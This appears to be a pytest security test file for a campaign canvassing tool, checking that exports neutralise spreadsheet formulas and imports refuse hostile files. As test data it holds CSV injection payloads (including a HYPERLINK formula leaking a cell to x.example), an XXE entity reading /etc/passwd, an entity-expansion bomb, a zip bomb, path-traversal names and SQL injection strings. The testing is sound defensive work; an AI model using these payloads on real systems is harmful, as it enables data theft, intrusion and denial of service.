"""Files made to harm: refused with a sentence or listed row by row, and nothing half-written."""

import csv
import io
import json
import resource
import time
import zipfile
from collections.abc import Callable, Iterator
from datetime import datetime
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pandas as pd
import pytest
from openpyxl import load_workbook

from campaign.exchange.importer import import_rows
from canvass import tables
from canvass.errors import BadInputError
from exchange import cells as _cells
from exchange import civicrm, nationbuilder, osdi, tabular
from files.writing.new_folder import write_folder
from people_base.base import Base
from people_base.field.contacts import record
from people_base.store import read, write

Maker = Callable[..., Any]
PARIS = ZoneInfo("Europe/Paris")
#: What a spreadsheet would run, or hand to a program (OWASP, CSV injection).
FORMULAS = (
    "=cmd|'/C calc'!A0",
    "+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "'=1+1",
    '=HYPERLINK("http://x.example?leak="&A1)',
)
ARMED = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
LETTERS = tuple(enumerate("abcdefghi"))
SHEET = "xl/worksheets/sheet1.xml"


@pytest.fixture
def within() -> Iterator[Callable[[float], None]]:
    """Bound the processor time of a test: an attack must not keep the machine busy."""
    start = time.process_time()
    limits: list[float] = []
    yield limits.append
    assert time.process_time() - start < min(limits, default=60.0)


@pytest.fixture
def workbook(tmp_path: Path) -> Path:
    path = tmp_path / "c.xlsx"
    tabular.tables_xlsx({"contacts": tables.CONTACTS.empty()}, path)
    return path


def with_part(path: Path, name: str, content: bytes) -> None:
    """Write another content for one part of a workbook."""
    with zipfile.ZipFile(path) as before:
        parts = {part: before.read(part) for part in before.namelist()}
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as packed:
        for part, kept in (parts | {name: content}).items():
            packed.writestr(part, kept)


def sheet(rows: str, dimension: str = "A1:B2", before: str = "") -> bytes:
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    return (
        f'<?xml version="1.0"?>{before}<worksheet xmlns="{main}"><dimension ref="{dimension}"/>'
        f"<sheetData>{rows}</sheetData></worksheet>"
    ).encode()


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_that_leaves_is_a_formula(text: str, contacts: Maker, tmp_path: Path) -> None:
    """Every text column of every file that goes to another program."""
    told = contacts([{"contact_id": text, "turf_id": text, "building_id": text, "opened": 1}])
    told = told.assign(team=text, source=text)
    written = {
        "nationbuilder": nationbuilder.contacts_csv(told),
        "civicrm": civicrm.activities_csv(told, zone=PARIS),
        "csv": tabular.table_csv(told),
    }
    for name, content in written.items():
        delimiter = ";" if name == "csv" else ","
        for row in csv.reader(
            io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=delimiter
        ):
            assert not [cell for cell in row if cell.startswith(ARMED)], name
    path = tmp_path / "c.xlsx"
    tabular.tables_xlsx({"contacts": told}, path)
    book = load_workbook(path)
    cells = [cell for row in book["contacts"].iter_rows() for cell in row]
    assert {cell.data_type for cell in cells} <= {"s", "n"}
    assert not [c for c in cells if isinstance(c.value, str) and c.value.startswith(ARMED)]


@pytest.mark.parametrize("column", ["first_name", "last_name", "Address address1", "note"])
@pytest.mark.parametrize("text", FORMULAS[:5])
def test_names_of_people_are_no_formulas(text: str, column: str) -> None:
    person = pd.DataFrame(
        {
            "birth_name": text, "usage_name": "", "first_names": text, "address": text,
            "door_label": text, "postcode": text, "city": text, "country": "FR",
            "bureau_id": text, "turf_id": text, "building_id": "b", "household_id": "h",
            "household_voters": 1, "longitude": 1.0, "latitude": 1.0,
        },
        index=pd.Index(["v"], name="voter_id"),
    )  # fmt: skip
    (content,) = nationbuilder.people_csv(person, note=text)
    (row,) = csv.DictReader(io.StringIO(content.decode(), newline=""))
    assert not row[column].startswith(ARMED)
    written = civicrm.individuals_csv(person, source=text).content
    (row,) = csv.DictReader(io.StringIO(written.decode(), newline=""))
    assert not [cell for cell in row.values() if cell.startswith(ARMED)]


def test_a_repeated_column_is_refused(tmp_path: Path, contacts: Maker) -> None:
    path = tmp_path / "c.csv"
    path.write_text("external_id,status,STATUS\nb1,refused,answered\n")
    with pytest.raises(BadInputError, match="Colonnes inutilisables"):
        nationbuilder.read_nationbuilder(path, zone=PARIS)
    content = tabular.table_csv(contacts([{}])).decode("utf-8-sig")
    lines = [f"{line};{line.partition(';')[0]}" for line in content.splitlines()]
    path.write_text("\n".join(lines))
    with pytest.raises(BadInputError) as caught:
        tabular.read_contacts(path, zone=PARIS)
    assert [fault.column for fault in caught.value.faults] == ["event_id"]


@pytest.mark.parametrize("sign", ["\x07", "\x1b[2J"], ids=["bell", "escape"])
def test_signs_that_no_keyboard_writes_are_listed(tmp_path: Path, sign: str) -> None:
    path = tmp_path / "c.csv"
    at = "2026-02-14T14:36:29Z"
    path.write_text(
        "external_id,method,status,created_at\n"
        f"b1{sign},door_knock,no_answer,{at}\nb1,door_knock,no_answer,{at}\n"
    )
    incoming = nationbuilder.read_nationbuilder(path, zone=PARIS)
    assert incoming.rows["row"].tolist() == [3]
    assert [(fault.row, fault.column) for fault in incoming.faults] == [(2, "target")]
    path.write_bytes(
        b"external_id,method,status,created_at\nb1,door_knock,no_answer," + at.encode()
    )
    assert len(nationbuilder.read_nationbuilder(path, zone=PARIS).rows) == 1


def canvass(**other: object) -> dict[str, object]:
    return {
        "action_date": "2026-02-18T11:02:15Z",
        "contact_type": "in-person",
        "status_code": "not-home",
        "_links": {"osdi:target": {"href": "urn:arpenteur:building:b1"}},
    } | other


@pytest.mark.parametrize(
    "other",
    [
        {"arpenteur:contact_id": "\ud800"},
        {"arpenteur:contact_id": "a\x00b"},
        {"arpenteur:count": 10**400},
        {"arpenteur:count": -1},
        {"arpenteur:knocked": 1e308},
        {"action_date": "9999999999-01-01"},
        {"action_date": "0001-01-01T00:00:00+23:59"},
        {"status_code": "x" * 1_000_000},
    ],
    ids=["surrogate", "nul", "huge", "negative", "float", "far", "first", "long"],
)
def test_canvasses_made_to_harm_are_listed(
    base: Base, now: datetime, tmp_path: Path, buildings: Maker, other: dict[str, object]
) -> None:
    write(base, tables.BUILDINGS, buildings(["b1"]), how="merge")
    path = tmp_path / "c.json"
    path.write_text(json.dumps([canvass(**other), canvass()]))
    incoming = osdi.read_osdi(path, zone=PARIS)
    taken = import_rows(base, incoming, salt=b"s", source="f", who="o", at=now)
    assert (taken.rows, taken.imported, taken.listed) == (2, 1, 1)
    assert len(read(base, tables.CONTACTS)) == 1


@pytest.mark.parametrize(
    "text",
    ["[" * 5_000_000, '{"a":' * 100_000, "[1" + "0" * 5000 + "]", "NaN", "\ufeff[]]", "\x00"],
    ids=["deep list", "deep object", "long number", "no number", "two ends", "nul"],
)
def test_documents_made_to_harm_are_refused_whole(tmp_path: Path, text: str) -> None:
    path = tmp_path / "c.json"
    path.write_text(text)
    with pytest.raises(BadInputError, match=r"osdi:canvasses|fichier texte"):
        osdi.read_osdi(path, zone=PARIS)


@pytest.mark.parametrize(
    ("name", "most", "reader"),
    [
        ("c.csv", _cells.MAX_BYTES, nationbuilder.read_nationbuilder),
        ("c.csv", _cells.MAX_BYTES, civicrm.read_civicrm),
        ("c.json", osdi.MAX_BYTES, osdi.read_osdi),
        ("c.csv", _cells.MAX_BYTES, tabular.read_contacts),
    ],
    ids=["nationbuilder", "civicrm", "osdi", "csv"],
)
def test_a_file_beyond_the_limit_is_refused_before_it_is_read(
    tmp_path: Path, name: str, most: int, reader: Maker, within: Callable[[float], None]
) -> None:
    path = tmp_path / name
    with path.open("wb") as file:
        file.truncate(most + 1)
    within(1.0)
    with pytest.raises(BadInputError, match="coupez-le"):
        reader(path, zone=PARIS)


def test_rows_beyond_the_limit_are_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(_cells, "MAX_ROWS", 100)
    path = tmp_path / "c.csv"
    path.write_text("external_id,status\n" + "\n" * 1000 + "b1,refused\n" * 100)
    assert len(nationbuilder.read_nationbuilder(path, zone=PARIS).rows) == 100
    path.write_text("external_id,status\n" + "b1,refused,too,wide\n" * 101)
    with pytest.raises(BadInputError, match="lignes : coupez-le"):
        nationbuilder.read_nationbuilder(path, zone=PARIS)


@pytest.mark.parametrize(
    "content",
    [
        sheet('<row r="999999999999"><c r="A1"><v>1</v></c></row>'),
        sheet('<row r="1"><c r="XFD1"><v>1</v></c></row>' * 2000, dimension="A1:XFD1048576"),
        sheet("", dimension="A1:XFD1048576"),
        sheet('<row r="1"><c r="A1"><v>1</v></c>'),
        sheet('<row r="x"><c r="A1"><v>1</v></c></row>'),
        sheet('<row r="1"><c r="A1" t="s"><v>99999</v></c></row>'),
        sheet(
            '<row r="1"><c r="A1" t="str"><v>&j;</v></c></row>',
            before='<!DOCTYPE x [<!ENTITY a "ha">'
            + "".join(f'<!ENTITY {"abcdefghij"[n + 1]} "{f"&{a};" * 10}">' for n, a in LETTERS)
            + "]>",
        ),
        sheet(
            '<row r="1"><c r="A1" t="str"><v>&e;</v></c></row>',
            before='<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
        ),
        b"\xff\xfe\x00no xml",
    ],
    ids=[
        "far row", "far cells", "claims", "cut", "no number", "no text", "laughs", "entity",
        "no xml",
    ],
)  # fmt: skip
def test_sheets_made_to_harm_are_refused(
    workbook: Path, content: bytes, within: Callable[[float], None]
) -> None:
    with_part(workbook, SHEET, content)
    within(6.0)
    with pytest.raises(BadInputError) as caught:
        tabular.read_contacts(workbook, zone=PARIS)
    assert "root:" not in str(caught.value)


def test_a_workbook_that_unpacks_to_the_sky_is_refused(
    workbook: Path, within: Callable[[float], None]
) -> None:
    with (
        zipfile.ZipFile(workbook, "a", zipfile.ZIP_DEFLATED) as packed,
        packed.open("xl/media/x", "w", force_zip64=True) as part,
    ):
        for _ in range(310):
            part.write(bytes(1_000_000))
    within(8.0)
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    with pytest.raises(BadInputError, match="démesurément"):
        tabular.read_contacts(workbook, zone=PARIS)
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 50_000


def test_a_name_that_leads_elsewhere_writes_nothing_there(tmp_path: Path) -> None:
    """Names of files come from a fixed list; the writer holds even where a caller forgets it."""
    for name in ("../outside", "/tmp/outside-of-it", "a/b"):
        with pytest.raises(BadInputError):
            write_folder(tmp_path / "out", {name: b"x"})
        assert not (tmp_path / "out").exists()
        assert not (tmp_path / "outside").exists()
    assert not list(tmp_path.iterdir())


INJECTIONS = (
    "'; DROP TABLE contacts; --",
    "' OR '1'='1",
    '"; DELETE FROM audit; --',
    "1); ATTACH DATABASE '/tmp/x' AS x; --",
    "x' UNION SELECT sql FROM sqlite_master --",
    "%s %(x)s :x ?1 $1 {x}",
    "\\'; SELECT pg_sleep(9); --",
    "back\\slash\\x00",
)


@pytest.mark.parametrize("table", ["voters", "buildings", "turfs"])
def test_texts_are_never_sql(
    roll_base: Base, voters: Maker, buildings: Maker, turfs: Maker, table: str
) -> None:
    """Every text column of the tables that people fill, in and out and as what is looked for."""
    kind = {"voters": tables.VOTERS, "buildings": tables.BUILDINGS, "turfs": tables.TURFS}[table]
    make = {"voters": voters, "buildings": buildings, "turfs": turfs}[table]
    ids = [f"{text}{n}" for n, text in enumerate(INJECTIONS)]
    texts = [name for name, of in kind.columns.items() if of == "text" and name != "status"]
    frame = make(ids, **{name: list(INJECTIONS) for name in texts})
    before = _names_of_tables(roll_base)
    write(roll_base, kind, frame, how="merge")
    back = read(roll_base, kind)
    assert list(back.index) == sorted(ids)
    pd.testing.assert_frame_equal(
        pd.DataFrame(back[texts]), pd.DataFrame(frame[texts]).sort_index(), check_dtype=False
    )
    assert len(read(roll_base, kind, where={kind.index[0]: [ids[1]]})) == 1
    assert read(roll_base, kind, where={kind.index[0]: ["' OR '1'='1"]}).empty
    with pytest.raises(BadInputError):
        read(roll_base, kind, columns=["1; DROP TABLE audit"])
    with pytest.raises(BadInputError):
        read(roll_base, kind, where={"1=1; --": ["x"]})
    assert _names_of_tables(roll_base) == before


def test_contacts_are_never_sql(base: Base, contacts: Maker, concerns: Maker) -> None:
    before = _names_of_tables(base)
    for text in INJECTIONS:
        told = contacts([{"contact_id": text, "turf_id": text, "building_id": text, "opened": 1}])
        told = told.assign(team=text)
        record(base, told, concerns([("e0", text, 1)]), source=text)
    assert sorted(read(base, tables.CONTACTS)["contact_id"]) == sorted(INJECTIONS)
    assert _names_of_tables(base) == before


def _names_of_tables(base: Base) -> set[str]:
    from sqlalchemy import inspect

    return set(inspect(base.engine).get_table_names())
